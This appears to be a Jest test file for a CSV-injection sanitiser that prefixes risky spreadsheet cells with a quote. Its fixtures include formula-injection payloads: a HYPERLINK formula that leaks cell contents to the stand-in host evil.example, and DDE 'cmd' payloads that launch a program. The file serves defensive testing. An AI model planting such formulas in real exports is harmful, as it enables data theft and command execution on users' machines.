import { stringify } from 'csv-stringify/sync';
import { neutraliseCsvCell } from './csv-cell';

describe('neutraliseCsvCell (OWASP CSV injection)', () => {
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A2,"Open")'],
    ['+', '+1+cmd|" /C calc"!A0'],
    ['-', '-2+3+cmd|" /C calc"!A0'],
    ['@', '@SUM(1+9)*cmd|" /C calc"!A0'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('given a cell starting with %s, then it is prefixed with a single quote', (_start, value) => {
    expect(neutraliseCsvCell(value)).toBe(`'${value}`);
  });

  it.each(['-', '+', '=', '@'])('given the lone character %s, then it is prefixed too', (value) => {
    expect(neutraliseCsvCell(value)).toBe(`'${value}`);
  });

  it('given harmless text, an empty string, or a formula character later in the text, then it is unchanged', () => {
    expect(neutraliseCsvCell('Rae Receiver')).toBe('Rae Receiver');
    expect(neutraliseCsvCell('')).toBe('');
    expect(neutraliseCsvCell('Team Results = 2.50 - see note')).toBe('Team Results = 2.50 - see note');
    expect(neutraliseCsvCell("'=already quoted")).toBe("'=already quoted");
  });

  it('given a figure written as text, even negative, then it stays a figure', () => {
    expect(neutraliseCsvCell('2.50')).toBe('2.50');
    expect(neutraliseCsvCell('-0.50')).toBe('-0.50');
    expect(neutraliseCsvCell('-3')).toBe('-3');
    // but not something that only starts like one
    expect(neutraliseCsvCell('-1+1')).toBe("'-1+1");
    expect(neutraliseCsvCell('-1.5e3')).toBe("'-1.5e3");
  });

  it('given it as csv-stringify’s string cast, then text cells are neutralised, still quoted, and numbers untouched', () => {
    const csv = stringify([['=HYPERLINK("http://evil.example/?"&A2,"Open")', -1.5, 3, '@Home', 'Plain']], {
      cast: { string: neutraliseCsvCell },
    });
    expect(csv).toBe(`"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")",-1.5,3,'@Home,Plain\n`);
  });
});
